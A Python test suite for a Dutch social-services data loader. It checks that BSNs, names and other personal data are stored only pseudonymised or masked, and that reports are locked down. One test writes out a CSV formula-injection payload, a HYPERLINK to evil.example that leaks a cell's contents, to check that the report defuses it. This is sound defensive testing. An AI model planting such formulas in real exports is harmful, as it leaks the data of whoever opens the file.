"""Personal data never reaches the warehouse, the load report or the output except as a pseudonym or masked.

Each test loads a real file into a real warehouse and then reads back every byte that was stored or written.
"""

from __future__ import annotations

import csv
import logging
import os
import re
import secrets
import sys
from pathlib import Path

import pytest

from sdmonitor.domain.clients import key_weakness, legacy_key_fingerprint, pseudonymise
from sdmonitor.errors import ConfigError
from sdmonitor.loading import KEY_SETTING, LoadOptions, LoadSummary, load_allocations
from sdmonitor.masking import MaskingFormatter
from sdmonitor.warehouse import open_warehouse
from tests.builders import BSN_A, BSN_B, allocation, outside_demo_range_bsn, write_csv
from tests.conftest import KEY, NOW
from tests.processes import kill_when, start_sdm

# Fictional numbers in the test range that pass the 11-check (the 9-digit one is the example in issue 9).
STRAY_BSN = "999939701"
NL_HEADER = "Toewijzingsnummer;Cliëntnummer;Geboortedatum;Wet;Productcategorie;AGB-code;Aanbieder;Ingangsdatum;Einddatum"


def nl_export(path: Path, *lines: str, header: str = NL_HEADER) -> Path:
    path.write_text(header + "\n" + "".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def load_and_read(tmp_path: Path, path: Path, key: bytes | None = KEY) -> tuple[LoadSummary, bytes, str]:
    """Load ``path`` into a fresh warehouse; return the summary, every stored byte and the report text."""
    db = tmp_path / "sdm.duckdb"
    with open_warehouse(db) as warehouse:
        summary = load_allocations(warehouse, path, LoadOptions(pseudonym_key=key), now=NOW)
        warehouse.execute("CHECKPOINT")
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("sdm.duckdb*"))
    return summary, stored, summary.report_path.read_text(encoding="utf-8-sig")


def stored_clients(tmp_path: Path) -> list[str]:
    """The identifier each stored row's client is known by (the pseudonym of a BSN, else the client number)."""
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        return [
            r[0]
            for r in warehouse.rows(
                "SELECT coalesce(p.identifier, n.identifier) FROM allocation_versions v "
                "LEFT JOIN client_identifiers p ON p.client_key = v.client_key AND p.kind = 'pseudonym' "
                "LEFT JOIN client_identifiers n ON n.client_key = v.client_key AND n.kind = 'client_number' "
                "ORDER BY v.source_row"
            )
        ]


def test_a_bsn_in_the_client_number_column_is_stored_only_as_its_pseudonym(tmp_path: Path) -> None:
    path = nl_export(
        tmp_path / "export.csv",
        f"T1;{BSN_A};15-03-1950;WMO;02;;;01-01-2018;",
        f"T2;{BSN_B};15-03-1950;WMO;02;;;01-01-2018;",
        "T3;C77;15-03-1950;WMO;02;;;01-01-2018;",
    )
    summary, stored, report = load_and_read(tmp_path, path)
    assert (summary.loaded, summary.pseudonymised_ids) == (3, 2)
    for bsn in (BSN_A, BSN_B):
        assert bsn.encode() not in stored
        assert bsn not in report
    # the same person as when the number came in the BSN column: one client, one key
    assert stored_clients(tmp_path) == [pseudonymise(BSN_A, KEY), pseudonymise(BSN_B, KEY), "C77"]


def grouped(bsn: str, separator: str) -> str:
    """``bsn`` written in the groups people use: 999-990-019, 999/990/020."""
    return separator.join((bsn[:3], bsn[3:6], bsn[6:]))


def test_a_bsn_with_dashes_or_slashes_in_the_client_number_is_stored_only_as_its_pseudonym(
    tmp_path: Path,
) -> None:
    path = nl_export(
        tmp_path / "export.csv",
        f"T1;{grouped(BSN_A, '-')};15-03-1950;WMO;02;;;01-01-2018;",
        f"T2;{grouped(BSN_B, '/')};15-03-1950;WMO;02;;;01-01-2018;",
        f"T3;{BSN_A};15-03-1950;JW;02;;;01-01-2018;",
    )
    summary, stored, report = load_and_read(tmp_path, path)
    assert (summary.loaded, summary.pseudonymised_ids) == (3, 3)
    for bsn in (BSN_A, BSN_B):
        for written in (bsn, grouped(bsn, "-"), grouped(bsn, "/")):
            assert written.encode() not in stored
            assert written not in report
    # the dashed number is the same person as the plain one: one client, one key
    assert stored_clients(tmp_path) == [
        pseudonymise(BSN_A, KEY),
        pseudonymise(BSN_B, KEY),
        pseudonymise(BSN_A, KEY),
    ]


def test_a_bsn_in_the_client_number_column_without_a_key_refuses_the_file(tmp_path: Path) -> None:
    path = nl_export(tmp_path / "export.csv", f"T1;{BSN_A};15-03-1950;WMO;02;;;01-01-2018;")
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        with pytest.raises(ConfigError, match="'Cliëntnummer' nummers die de elfproef doorstaan"):
            load_allocations(warehouse, path, LoadOptions(), now=NOW)
        assert warehouse.value("SELECT count(*) FROM allocation_versions") == 0


def test_a_bsn_inside_a_client_or_allocation_number_is_pseudonymised_and_stays_distinct(
    tmp_path: Path,
) -> None:
    path = nl_export(
        tmp_path / "export.csv",
        f"A-{BSN_A};K{BSN_A};15-03-1950;WMO;02;;;01-01-2018;",
        f"A-{BSN_B};K{BSN_B};15-03-1950;WMO;02;;;01-01-2018;",
    )
    summary, stored, _ = load_and_read(tmp_path, path)
    assert (summary.loaded, summary.pseudonymised_ids) == (2, 4)
    for bsn in (BSN_A, BSN_B):
        assert bsn.encode() not in stored
    assert len(set(stored_clients(tmp_path))) == 2


def test_bsn_in_provider_code_is_never_stored(tmp_path: Path) -> None:
    path = nl_export(tmp_path / "export.csv", f"T1;C1;15-03-1950;WMO;02;{STRAY_BSN};Zorg BV;01-01-2018;")
    summary, stored, report = load_and_read(tmp_path, path)
    assert (summary.loaded, summary.warnings) == (1, {"invalid_provider_code": 1})
    assert STRAY_BSN.encode() not in stored
    assert STRAY_BSN not in report
    assert "AGB-code '[verwijderd]' is geen code van 8 cijfers; opgeslagen als onbekend." in report
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        assert warehouse.value("SELECT provider_code FROM allocation_versions") is None


def test_an_invalid_provider_code_is_stored_as_unknown(tmp_path: Path) -> None:
    path = nl_export(tmp_path / "export.csv", "T1;C1;15-03-1950;WMO;02;12AB;Zorg BV;01-01-2018;")
    load_and_read(tmp_path, path)
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        assert warehouse.rows("SELECT provider_code, provider_name FROM allocation_versions") == [
            (None, "Zorg BV")
        ]


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (f"T1;C1;15-03-1950;{STRAY_BSN};02;;;01-01-2018;", "invalid_law"),
        (f"T1;C1;15-03-1950;WMO;02;;;01-01-2018;{STRAY_BSN}", "invalid_end_date"),
        (f"T1;C1;{STRAY_BSN};WMO;02;;;01-01-2018;", "invalid_birth_date"),
        (f"T1;C1;15-03-1950;WMO;02;;Zorg {STRAY_BSN} BV;01-01-2018;", None),
        (f"T1;C1;15-03-1950;WMO;{STRAY_BSN};;;01-01-2018;", "unknown_product_category"),
    ],
)
def test_a_bsn_in_any_other_column_is_never_stored_or_echoed(
    tmp_path: Path, line: str, code: str | None
) -> None:
    summary, stored, report = load_and_read(tmp_path, nl_export(tmp_path / "export.csv", line))
    if code is not None:
        assert code in summary.rejections | summary.warnings
    assert STRAY_BSN.encode() not in stored
    assert STRAY_BSN not in report


# The reviewer's example: 9999-00-043 passes the 11-check (999900043) and is written like a date or a code.
GROUPED_BSN = "9999-00-043"


@pytest.mark.parametrize(
    "line",
    [
        f"T1;C1;15-03-1950;WMO;02;{GROUPED_BSN};Zorg BV;01-01-2018;",
        f"T1;C1;15-03-1950;WMO;02;{GROUPED_BSN.replace('-', '/')};Zorg BV;01-01-2018;",
        f"T1;C1;15-03-1950;WMO;02;;Zorg {GROUPED_BSN} BV;01-01-2018;",
        f"T1;C1;15-03-1950;WMO;02;;Zorg {GROUPED_BSN.replace('-', '/')} BV;01-01-2018;",
        f"T1;C1;15-03-1950;WMO;02;;;01-01-2018;{GROUPED_BSN}",
    ],
)
def test_a_bsn_with_dashes_or_slashes_in_a_provider_column_is_never_stored_or_echoed(
    tmp_path: Path, line: str
) -> None:
    summary, stored, report = load_and_read(tmp_path, nl_export(tmp_path / "export.csv", line))
    assert summary.loaded + sum(summary.rejections.values()) == 1
    digits = GROUPED_BSN.replace("-", "")
    for written in (digits, GROUPED_BSN, GROUPED_BSN.replace("-", "/")):
        assert written.encode() not in stored
        assert written not in report
    assert "[verwijderd]" in report or b"[verwijderd]" in stored


def test_a_date_with_dashes_or_slashes_is_not_taken_for_a_bsn(tmp_path: Path) -> None:
    path = nl_export(
        tmp_path / "export.csv", "T1;C1;15-03-1950;WMO;02;;Zorg 01-01-2018 / 12/34/5678 BV;01-01-2018;"
    )
    load_and_read(tmp_path, path)
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        assert (
            warehouse.value("SELECT provider_name FROM allocation_versions")
            == "Zorg 01-01-2018 / 12/34/5678 BV"
        )


def test_the_melding_never_quotes_a_bsn(tmp_path: Path) -> None:
    path = nl_export(tmp_path / "export.csv", f"T1;C1;15-03-1950;WMO;02;;;01-01-2018;{STRAY_BSN}")
    summary, _, _ = load_and_read(tmp_path, path)
    with summary.report_path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle, delimiter=";"))
    assert (
        row["melding"]
        == "Einddatum '[verwijderd]' is geen geldige datum (verwacht JJJJ-MM-DD of DD-MM-JJJJ)."
    )
    assert row["Einddatum"] == "[verwijderd]"


# Passes the 11-check outside the fictional range: stands for a real BSN (a textbook example, not a person's).
REAL_LOOKING_BSN = outside_demo_range_bsn()


def strong_key() -> bytes:
    """A key made as docs/configuration.md says (never written down, so never published)."""
    while key_weakness(key := secrets.token_urlsafe(32).encode()) is not None:
        pass
    return key


STRONG_KEY = strong_key()


@pytest.mark.parametrize("key", [b"sdmonitor-demo-key-fictional-data-only", b"aaaaaaaaaaaaaaaa", KEY])
def test_a_weak_or_published_key_is_refused_for_real_bsns(tmp_path: Path, key: bytes) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", client=None, bsn=REAL_LOOKING_BSN)])
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        with pytest.raises(ConfigError, match=r"secrets.token_urlsafe\(32\)"):
            load_allocations(warehouse, path, LoadOptions(pseudonym_key=key), now=NOW)
        assert warehouse.value("SELECT count(*) FROM allocation_versions") == 0
        assert warehouse.setting(KEY_SETTING) is None


def test_a_weak_key_is_refused_for_a_real_bsn_in_the_client_number_too(tmp_path: Path) -> None:
    path = nl_export(tmp_path / "export.csv", f"T1;K{REAL_LOOKING_BSN};15-03-1950;WMO;02;;;01-01-2018;")
    with (
        open_warehouse(tmp_path / "sdm.duckdb") as warehouse,
        pytest.raises(ConfigError, match="niet geheim"),
    ):
        load_allocations(warehouse, path, LoadOptions(pseudonym_key=b"aaaaaaaaaaaaaaaa"), now=NOW)


def test_the_demo_key_may_pseudonymise_fictional_bsns(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", client=None, bsn=BSN_A)])
    summary, stored, _ = load_and_read(tmp_path, path, key=b"sdmonitor-demo-key-fictional-data-only")
    assert summary.loaded == 1 and BSN_A.encode() not in stored


def test_a_strong_key_pseudonymises_real_bsns_and_only_a_slow_fingerprint_is_stored(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", client=None, bsn=REAL_LOOKING_BSN)])
    summary, stored, _ = load_and_read(tmp_path, path, key=STRONG_KEY)
    assert summary.loaded == 1 and REAL_LOOKING_BSN.encode() not in stored
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        fingerprint = warehouse.setting(KEY_SETTING)
    assert fingerprint is not None and fingerprint.startswith("scrypt$")
    assert legacy_key_fingerprint(STRONG_KEY) not in fingerprint


def test_a_fast_legacy_fingerprint_is_replaced_by_a_slow_one_on_the_next_load(tmp_path: Path) -> None:
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        warehouse.set_setting(KEY_SETTING, legacy_key_fingerprint(STRONG_KEY))
        path = write_csv(tmp_path / "t.csv", [allocation("T1")])
        load_allocations(warehouse, path, LoadOptions(pseudonym_key=STRONG_KEY), now=NOW)
        fingerprint = warehouse.setting(KEY_SETTING)
        assert fingerprint is not None and fingerprint.startswith("scrypt$")
        with pytest.raises(ConfigError, match="wijkt af"):
            load_allocations(warehouse, path, LoadOptions(pseudonym_key=STRONG_KEY[::-1]), now=NOW)


def test_the_load_report_defuses_spreadsheet_formulas_in_every_cell(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    path = write_csv(
        tmp_path / "t.csv",
        [allocation("T1", law="@SUM(1+1)", provider_name=formula), allocation("+T2", start="-2018-01-01")],
    )
    summary, _, _ = load_and_read(tmp_path, path)
    with summary.report_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + formula in rows[1] and "'@SUM(1+1)" in rows[1]


NAMED_HEADER = NL_HEADER + ";Naam;Huisnummer;Telefoon"


def test_the_report_repeats_only_mapped_columns_never_names_or_a_shifted_bsn(tmp_path: Path) -> None:
    path = nl_export(
        tmp_path / "export.csv",
        "T1;C1;15-03-1950;Wlz;02;;;01-01-2018;;Jansen;12a;0612345678",
        # a malformed line: the client number is missing, so the BSN and the name shift one column left
        f"T2;15-03-1950;{STRAY_BSN};WMO;02;;;01-01-2018;;Pietersen;12a",
        header=NAMED_HEADER,
    )
    summary, stored, report = load_and_read(tmp_path, path)
    assert (summary.read, summary.rejected) == (2, 2)
    for personal in ("Jansen", "Pietersen", "0612345678", "12a", STRAY_BSN):
        assert personal not in report
        assert personal.encode() not in stored
    header = next(csv.reader([report.splitlines()[0]], delimiter=";"))
    assert header == [*NL_HEADER.split(";"), "rij", "ernst", "reden", "melding"]


def test_load_reports_go_to_their_own_folder_readable_by_the_owner_only(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", law="Wlz")])
    summary, _, _ = load_and_read(tmp_path, path)
    folder = summary.report_path.parent
    assert folder == (tmp_path / "laadrapporten").resolve()
    assert folder.stat().st_mode & 0o777 == 0o700
    assert summary.report_path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in folder.iterdir()] == [summary.report_path.name]


def test_report_to_a_folder_writes_into_it_owner_only(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", law="Wlz")])
    chosen = tmp_path / "mijn" / "rapporten"
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        summary = load_allocations(
            warehouse, path, LoadOptions(pseudonym_key=KEY, report_path=chosen), now=NOW
        )
    assert summary.report_path.parent == chosen and summary.report_path.name.endswith("-t.csv")
    assert chosen.stat().st_mode & 0o777 == 0o700
    assert summary.report_path.stat().st_mode & 0o777 == 0o600


def test_a_failed_load_leaves_no_report_behind(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation(f"T{i}", law="Wlz") for i in range(3)])

    def interrupt(_: int) -> None:
        raise KeyboardInterrupt

    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse, pytest.raises(KeyboardInterrupt):
        load_allocations(warehouse, path, LoadOptions(pseudonym_key=KEY), now=NOW, progress=interrupt)
    assert list((tmp_path / "laadrapporten").iterdir()) == []


def test_a_report_of_a_killed_load_is_never_kept_and_is_swept_next_time(tmp_path: Path) -> None:
    db = tmp_path / "sdm.duckdb"
    big = write_csv(tmp_path / "big.csv", [allocation(f"T{i}", gender="9") for i in range(200_000)])
    reports = tmp_path / "laadrapporten"
    env = {**os.environ, "SDM_DB": str(db), "SDM_PSEUDONYM_KEY": KEY.decode()}
    process = start_sdm("load", "allocations", str(big), env=env)
    killed = kill_when(process, lambda: any(reports.glob(".*.deel")))  # the report has started
    assert killed, "the load finished before it could be killed; make the file bigger"
    assert list(reports.glob("*.csv")) == []  # only the temporary part, never a report under its own name
    with open_warehouse(db) as warehouse:
        load_allocations(warehouse, write_csv(tmp_path / "t.csv", [allocation("T1")]), LoadOptions(), now=NOW)
    assert list(reports.glob(".*.deel")) == []


def test_log_lines_and_their_tracebacks_never_carry_a_bsn() -> None:
    try:
        raise ValueError(f"could not convert '{STRAY_BSN}'")
    except ValueError:
        record = logging.LogRecord(
            "sdmonitor", logging.ERROR, __file__, 1, "rij %s: %s", (3, BSN_A), sys.exc_info()
        )
    text = MaskingFormatter("%(levelname)s %(message)s").format(record)
    assert "rij 3: [verwijderd]" in text and "could not convert '[verwijderd]'" in text
    assert STRAY_BSN not in text and BSN_A not in text


def test_only_the_pc4_of_a_postcode_is_stored(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", [allocation("T1", postcode="1011 AB")])
    _, stored, _ = load_and_read(tmp_path, path)
    assert b"1011AB" not in stored and b"1011 AB" not in stored
    with open_warehouse(tmp_path / "sdm.duckdb") as warehouse:
        assert warehouse.value("SELECT pc4 FROM allocation_versions") == "1011"


def test_every_test_named_in_the_privacy_guarantees_exists() -> None:
    root = Path(__file__).parent
    named = set(
        re.findall(r"`(test_[a-z0-9_]+)`", (root.parent / "docs" / "privacy.md").read_text(encoding="utf-8"))
    )
    defined = {
        m
        for p in root.rglob("test_*.py")
        for m in re.findall(r"^def (test_[a-z0-9_]+)", p.read_text(encoding="utf-8"), re.M)
    }
    assert named and sorted(named - defined) == []


def test_applicant_and_partner_bsns_of_benefits_are_never_stored_echoed_or_printed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from click.testing import CliRunner

    from sdmonitor.cli import cli
    from tests.benefit_builders import benefit, write_benefits

    path = write_benefits(
        tmp_path / "uitkeringen.csv",
        [
            benefit(client_id=None, bsn=BSN_A, partner_bsn=BSN_B, partner_birth_date="1982-05-01"),
            benefit(benefit_id="U2", client_id=None, bsn=BSN_B, partner_bsn="123456789"),  # rejected
            benefit(benefit_id="U3", client_id="C3", birth_date=None, partner_bsn=BSN_A),  # rejected
            benefit(benefit_id="U4", client_id="C4", inflow_reason=STRAY_BSN),  # warned, reason masked
        ],
    )
    monkeypatch.setenv("SDM_PSEUDONYM_KEY", KEY.decode())
    db = tmp_path / "sdm.duckdb"
    result = CliRunner().invoke(cli, ["--db", str(db), "load", "benefits", str(path)])
    assert result.exit_code == 0, result.output
    assert "gelezen 4 = geladen 2 + ongewijzigd 0 + dubbel 0 + afgewezen 2" in result.output
    with open_warehouse(db) as warehouse:
        warehouse.execute("CHECKPOINT")
        keys = warehouse.rows("SELECT client_key, partner_key FROM benefit_versions ORDER BY benefit_id")
    assert keys[0][1] is not None and keys[0][0] != keys[0][1]
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("sdm.duckdb*"))
    (report,) = (tmp_path / "laadrapporten").glob("*.csv")
    echoed = report.read_text(encoding="utf-8-sig")
    for bsn in (BSN_A, BSN_B, "123456789", STRAY_BSN):
        assert bsn.encode() not in stored
        assert bsn not in echoed and bsn not in result.output
    assert echoed.count("[verwijderd]") >= 4
